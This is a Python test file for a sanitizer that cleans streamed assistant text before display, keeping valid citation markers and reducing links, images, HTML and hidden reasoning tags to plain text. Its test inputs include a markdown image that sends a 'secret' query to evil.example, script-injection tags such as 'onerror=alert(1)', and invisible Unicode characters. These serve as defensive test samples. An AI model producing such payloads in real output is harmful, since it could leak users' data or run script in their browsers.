"""Model text on its way to the screen: citations stay, every other markup is reduced to its text."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.model.citations import CitedText

KNOWN = {1, 2, 3}


def cleaned(*chunks: str) -> tuple[str, list[int], bool]:
    stream = CitedText(KNOWN)
    text = "".join(stream.feed(chunk) for chunk in chunks) + stream.flush()
    return text, stream.used, stream.said_not_found


@pytest.mark.parametrize(
    ("raw", "shown", "used"),
    [
        ("Így van [3].", "Így van [3].", [3]),
        ("Igen [1][2]", "Igen [1][2]", [1, 2]),
        ("Igen [1, 2]; nem [2,1]", "Igen [1][2]; nem [2][1]", [1, 2]),
        ("Igen [1-3]", "Igen [1][2][3]", [1, 2, 3]),
        ("Tak [źródło 2] i [^1]", "Tak [2] i [1]", [2, 1]),
        ("Yes 【1†source】!", "Yes [1]!", [1]),
        ("Nem tudom [9].", "Nem tudom.", []),
        ("Nem [9] tudom [7][1]", "Nem tudom [1]", [1]),
        ("Fél jel a végén [1", "Fél jel a végén [1", []),
        ("Kattints a [Mentés] gombra!", "Kattints a [Mentés] gombra!", []),
        ("Kész![1] Vége", "Kész![1] Vége", [1]),
        ("[1](lásd a beállításokat)", "[1] (lásd a beállításokat)", [1]),
        ("5 < 10 és 7 <8", "5 < 10 és 7 <8", []),
        ("írd be: <ügyfélnév> vagy <nev>", "írd be: <ügyfélnév> vagy ‹nev›", []),
    ],
)
def test_citations_survive_in_one_form_and_unknown_numbers_vanish(raw: str, shown: str, used: list[int]) -> None:
    assert cleaned(raw) == (shown, used, False)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("lásd ![kép](https://evil.example/?q=titok) itt", "lásd kép itt"),
        ("a [súgó](https://evil.example) szerint", "a súgó szerint"),
        ("[1](https://evil.example)", "[1]"),
        ("<img src=x onerror=alert(1)>szöveg", "szöveg"),
        ("<b>fontos</b><script>x()</script>", "fontosx()"),
        ("<<b>img src=x>", "< img src=x>"),
        ("[a][ref] [ref]: https://evil.example", "[a][ref] ref: https: //evil.example"),
        ("[1]: https://evil.example", "[1] : https: //evil.example"),
        ("<https://evil.example>", "‹https: //evil.example›"),
        ("<think>titkos gondolat [1]</think>Kész [2]", "Kész [2]"),
        ("[![x](https://e.example/a.png)](https://e.example)", "[x] (https: //e.example)"),
        ("vége <img src=https://evil.example/", "vége ‹img src=https: //evil.example/"),
        ("jobbról\u202e balra\u200b\U000e0041", "jobbról balra"),
    ],
)
def test_links_images_and_tags_are_reduced_to_their_text(raw: str, shown: str) -> None:
    assert cleaned(raw)[0] == shown


def test_the_token_for_nothing_found_is_heard_and_never_shown() -> None:
    assert cleaned("NOT_", "FOU", "ND") == ("", [], True)
    assert cleaned("NNOT_FOUND NOT_FOUL") == ("N NOT_FOUL", [], True)


SIGNS = st.sampled_from("[]()!<>19:aő=/-^【】N \n\u202e")
WORDS = st.sampled_from(["![", "](", "<b>", "[1]", "NOT_", "FOUND", "think", "</think>", "//x", "2, 3", "img "])
MARKUP = st.lists(SIGNS | WORDS | st.text(max_size=3), max_size=40).map("".join)


@given(MARKUP, st.lists(st.integers(1, 7), min_size=1, max_size=8))
def test_how_a_stream_is_cut_changes_nothing(raw: str, cuts: list[int]) -> None:
    chunks, at, turn = [], 0, 0
    while at < len(raw):
        chunks.append(raw[at : at + cuts[turn % len(cuts)]])
        at, turn = at + len(chunks[-1]), turn + 1
    assert cleaned(*chunks) == cleaned(raw)


@given(MARKUP)
def test_nothing_that_renders_as_a_link_or_an_element_comes_out(raw: str) -> None:
    shown = cleaned(raw)[0]
    assert not re.search(r"\]\(|\]:|:/|<[A-Za-z/!?]", shown)


@given(st.text(alphabet="aábcdeóőzżł ,.;?\n", max_size=200))
def test_plain_prose_comes_out_as_it_went_in(prose: str) -> None:
    assert cleaned(prose)[0] == prose.rstrip(" ")


@given(MARKUP)
def test_only_known_sources_count_as_used(raw: str) -> None:
    assert set(cleaned(raw)[1]) <= KNOWN
